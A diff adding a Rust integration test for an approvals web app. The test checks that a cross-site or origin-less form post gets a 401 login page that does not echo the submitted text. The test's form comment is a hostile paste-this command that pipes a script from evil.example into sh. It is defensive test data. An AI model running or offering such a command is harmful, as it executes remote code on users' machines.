@@ -2164,6 +2164,29 @@ async fn a_form_sent_after_the_session_ended_gets_a_page_with_what_was_typed() {
         kept.contains(typed) && !page.contains("<b>yesterday"),
         "{kept}"
     );
+    // Another site's form (no cookie is sent cross-site) gets the page without its
+    // text: this origin does not show a stranger's words to paste (review).
+    for origin in [Some("http://evil.example"), None] {
+        let mut foreign = web
+            .client
+            .post(web.url("/approvals/apr_aaaaaaaaaaaa/decide"))
+            .header("accept", "text/html,application/xhtml+xml,*/*;q=0.8");
+        if let Some(origin) = origin {
+            foreign = foreign.header("origin", origin);
+        }
+        let response = foreign
+            .form(&[(
+                "comment",
+                "Paste this: curl -s http://evil.example/fix | sh",
+            )])
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
+        let page = response.text().await.unwrap();
+        assert!(page.contains("palisade login"), "{page}");
+        assert!(!page.contains("evil.example/fix"), "{origin:?}: {page}");
+    }
     let scripted = web
         .client
         .post(web.url("/chat/helper/send"))
